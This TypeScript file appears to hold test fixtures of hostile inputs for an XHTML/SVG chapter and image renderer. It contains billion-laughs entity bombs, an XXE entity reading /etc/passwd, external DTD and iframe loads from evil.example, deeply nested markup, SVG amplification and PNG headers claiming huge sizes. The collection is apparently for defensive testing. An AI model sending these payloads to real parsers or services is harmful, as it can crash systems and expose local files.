/** Small markup, or as large as a chapter may be, that costs far more to process. */
const xhtml = (body: string, type = '') =>
  `<?xml version="1.0"?>${type}<html xmlns="http://www.w3.org/1999/xhtml"><body>${body}</body></html>`

const laughs = (quote: string, inside: string) =>
  `<!DOCTYPE html [${inside}<!ENTITY a0 ${quote}ha${quote}>${Array.from(
    { length: 12 },
    (_, i) => `<!ENTITY a${i + 1} ${quote}${`&a${i};`.repeat(10)}${quote}>`,
  ).join('')}]>`

const times = (text: string, letters: number) => text.repeat(Math.ceil(letters / text.length))
/** More characters than a browser takes at once. */
const much = 3_900_000

export const bombs: readonly (readonly [what: string, chapter: () => string])[] = [
  ['words that unfold', () => xhtml('<p>&a12;</p>', laughs('"', ''))],
  ['words that unfold, behind a bracket', () => xhtml('<p>&a12;</p>', laughs('"', '<!ENTITY x "]">'))],
  ['words that unfold, behind a comment', () => xhtml('<p>&a12;</p>', laughs("'", '<!-- ]> -->'))],
  [
    'words that unfold, behind much',
    () => xhtml('<p>&a12;</p>', laughs("'", `<!-- ${'x'.repeat(30_000)} -->`)),
  ],
  [
    'words from a file',
    () =>
      xhtml(
        '<p>&f;</p>',
        '<!DOCTYPE html [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % g SYSTEM "https://evil.example/dtd">%g;]>',
      ),
  ],
  ['a type from elsewhere', () => xhtml('<p>x</p>', '<!DOCTYPE html SYSTEM "https://evil.example/dtd">')],
  ['one inside the other', () => times('<div>', much)],
  ['one inside the other, well-formed', () => xhtml(`${'<div>'.repeat(20_000)}x${'</div>'.repeat(20_000)}`)],
  ['bold inside bold', () => times('<b><i><u>', much)],
  [
    'bold of many kinds, then paragraphs',
    () => Array.from({ length: 20_000 }, (_, i) => `<b id=${i}>`).join('') + '<p>x</p>'.repeat(100_000),
  ],
  ['bold that is closed elsewhere', () => times('<b><p></b>', much)],
  ['links inside links', () => times('<a href=x><div>', much)],
  ['links in tables', () => times('<table><a>', much)],
  ['tables inside tables', () => times('<table><tr><td>', 1_500_000)],
  ['drawings inside drawings', () => times('<svg><g>', much)],
  ['formulas inside formulas', () => times('<math><mrow><mi>', much)],
  [
    'formulas without end',
    () => `<math>${'<msqrt>'.repeat(150)}x${'</msqrt>'.repeat(150)}</math>`.repeat(300),
  ],
  ['lists inside lists', () => times('<ul><li>', much)],
  ['very many paragraphs', () => times('<p>x</p>', much)],
  ['very many breaks', () => times('<br>', much)],
  ['very many cells', () => `<table>${times(`<tr>${'<td>x'.repeat(100)}`, 2_000_000)}</table>`],
  ['cells that take much room', () => `<table>${'<tr><td colspan=100 rowspan=100>x'.repeat(3_000)}</table>`],
  ['very many ids', () => Array.from({ length: 200_000 }, (_, i) => `<p id=a${i}>`).join('')],
  [
    'very many attributes',
    () => `<p ${Array.from({ length: 200_000 }, (_, i) => `a${i}=1`).join(' ')}>x</p>`,
  ],
  ['a very long word', () => `<p>${'x'.repeat(much)}</p>`],
  ['very long words right to left', () => `<p dir=rtl>${'\u05d0\u0301'.repeat(1_000_000)}</p>`],
  ['marks upon marks', () => `<p>a${'\u0301'.repeat(500_000)}</p>`],
  ['brackets that never close', () => times('<a <', much)],
  ['ends that never began', () => times('</p></b>', much)],
  ['comments in comments', () => times('<!--<!-', much)],
  ['words with many signs', () => times('&amp;&notit;&#x110000;', much)],
  ['pictures, very many', () => times('<img src=p.png>', 1_500_000)],
  ['links out, very many', () => times('<a href=https://evil.example/>x</a>', 1_500_000)],
  ['ruby in ruby', () => times('<ruby>x<rt>', much)],
  ['a heading that never closes', () => times('<h1>', much)],
  ['details in details', () => times('<details open><summary>', much)],
  ['a line of zeros', () => '\u0000'.repeat(much)],
]

/** Small pictures that expand when they are drawn. */
export const pictures: readonly (readonly [what: string, picture: () => string | Uint8Array])[] = [
  [
    'a drawing that runs',
    () =>
      drawing(
        '<script>top.caught=1</script><image href="https://evil.example/p.png" width="9" height="9"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/f"/></foreignObject>',
      ),
  ],
  [
    'a drawing that uses itself tenfold, ten times',
    () =>
      drawing(
        `<defs><g id="u0"><rect width="1" height="1"/></g>${Array.from({ length: 10 }, (_, i) => `<g id="u${i + 1}">${`<use href="#u${i}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#u10"/>`,
      ),
  ],
  [
    'a drawing of patterns in patterns',
    () =>
      drawing(
        `${Array.from({ length: 10 }, (_, i) => `<pattern id="p${i}" width="1" height="1" patternUnits="userSpaceOnUse"><rect width="99" height="99" fill="url(#p${i + 1})"/></pattern>`).join('')}<rect width="900" height="900" fill="url(#p0)"/>`,
      ),
  ],
  [
    'a drawing of blurs',
    () =>
      drawing(
        `<filter id="f" width="9999" height="9999">${'<feGaussianBlur stdDeviation="500"/><feMorphology radius="500"/><feTurbulence numOctaves="99"/>'.repeat(60)}</filter><rect width="9000" height="9000" filter="url(#f)"/>`,
      ),
  ],
  [
    'a drawing of words that unfold',
    () =>
      `${laughs('"', '').replace('DOCTYPE html', 'DOCTYPE svg')}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&a12;</text></svg>`,
  ],
  ['a drawing of much', () => drawing('<path d="M0 0l1 1"/>'.repeat(200_000))],
  ['a drawing in a drawing', () => drawing(`${'<g>'.repeat(30_000)}${'</g>'.repeat(30_000)}`)],
  ['a picture that says it is immense', () => immense(60_000, 60_000)],
  ['a picture that says it is immense, and thin', () => immense(2_000_000_000, 1)],
]

const drawing = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900">${inside}</svg>`

/** The header of a huge PNG, without pixels. */
function immense(width: number, height: number): Uint8Array {
  const png = Buffer.alloc(57)
  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex').copy(png)
  png.writeUInt32BE(width, 16)
  png.writeUInt32BE(height, 20)
  png.writeUInt8(8, 24)
  png.writeUInt8(2, 25)
  png.write('IDAT', 37)
  return png
}
